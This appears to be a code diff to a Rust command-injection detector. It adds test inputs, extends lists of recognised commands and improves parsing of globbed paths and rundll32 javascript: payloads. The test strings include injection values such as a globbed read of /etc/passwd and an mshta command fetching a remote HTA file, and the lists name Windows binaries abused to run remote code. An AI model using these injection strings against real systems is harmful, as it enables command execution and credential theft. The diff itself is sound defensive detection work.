@@ -25,6 +25,8 @@ static COMMAND: Rule = Rule::recognised(
         "1;cat${IFS}/x",
         "& dir c:\\",
         "a & ipconfig /all",
+        "`echo id`",
+        "; find / -name x",
     ],
     &[
         "salt; more pepper",
@@ -56,6 +58,8 @@ static START: Rule = Rule::recognised(
         "powershell -enc aaaa",
         "cmd /c dir",
         "bash -i",
+        "/bin/ca? /etc/pass?d",
+        "mshta http://x.test/a.hta",
     ],
     &[
         "cat food",
@@ -226,7 +230,8 @@ fn command(word: &[u8]) -> Command {
         | b"dig" | b"pwd" | b"ls" | b"usleep" | b"rm" | b"mv" | b"cp" | b"mkdir" | b"rmdir"
         | b"tar" | b"ps" | b"df" | b"du" | b"strings" | b"passwd" | b"useradd" | b"adduser"
         | b"ssh" | b"lynx" | b"xterm" | b"taskkill" | b"netsh" | b"schtasks" | b"vssadmin"
-        | b"reg" | b"ver" | b"tac" | b"nl" => Command::Certain,
+        | b"reg" | b"ver" | b"tac" | b"nl" | b"certutil.exe" | b"mshta.exe" | b"rundll32.exe"
+        | b"bitsadmin.exe" | b"regsvr32.exe" => Command::Certain,
         b"id" | b"cat" | b"dir" | b"type" | b"echo" | b"sleep" | b"ping" | b"sh" | b"cmd"
         | b"find" | b"head" | b"tail" | b"more" | b"less" | b"sort" | b"kill" | b"env" | b"set"
         | b"net" | b"date" | b"time" | b"who" | b"w" | b"last" | b"touch" | b"cut" | b"export"
@@ -278,6 +283,7 @@ fn has_argument(rest: &[u8]) -> bool {
         [b'-', next, ..] => {
             spaced && (next.is_ascii_alphanumeric() || *next == b'-') && !body.starts_with(b"-- ")
         }
+        [b'/', b' ', b'-', ..] => spaced,
         [b'/', next, ..] => spaced && *next != b' ',
         [b'$' | b'%' | b'~' | b'*', ..] => spaced,
         [
@@ -326,8 +332,13 @@ fn separator(text: &[u8], at: usize, skip: usize, report: &mut Report<'_>) {
                 .iter()
                 .take(256)
                 .any(|&b| b == if mark == b'`' { b'`' } else { b')' });
+            let prints =
+                matches!(name, b"echo" | b"printf" | b"expr") && rest.first() == Some(&b' ');
             if !closed
-                || !(has_argument(rest) || kind == Command::Certain || rest.first() == Some(&b')'))
+                || !(has_argument(rest)
+                    || kind == Command::Certain
+                    || prints
+                    || rest.first() == Some(&b')'))
             {
                 return;
             }
@@ -432,7 +443,9 @@ fn certain_or_known(name: &[u8]) -> bool {
 fn start(text: &[u8], quoted: bool, report: &mut Report<'_>) {
     let (name, rest, rooted) = word(text);
     let kind = command(name);
-    if kind == Command::None {
+    // `/bin/ca?`: the shell finds the name.
+    let globbed = rooted && name.contains(&b'?');
+    if kind == Command::None && !globbed {
         return;
     }
     let body = rest.trim_ascii_start();
@@ -453,7 +466,12 @@ fn start(text: &[u8], quoted: bool, report: &mut Report<'_>) {
     ) && matches!(body, [b'/' | b'%', next, ..] if next.is_ascii_alphabetic());
     let found = rooted
         || option
-        || url && matches!(name, b"wget" | b"curl" | b"lynx" | b"fetch")
+        || url
+            && matches!(
+                name,
+                b"wget" | b"curl" | b"lynx" | b"fetch" | b"mshta" | b"mshta.exe"
+            )
+        || matches!(name, b"rundll32" | b"rundll32.exe") && body.starts_with(b"javascript:")
         || flag
             && !matches!(
                 name,
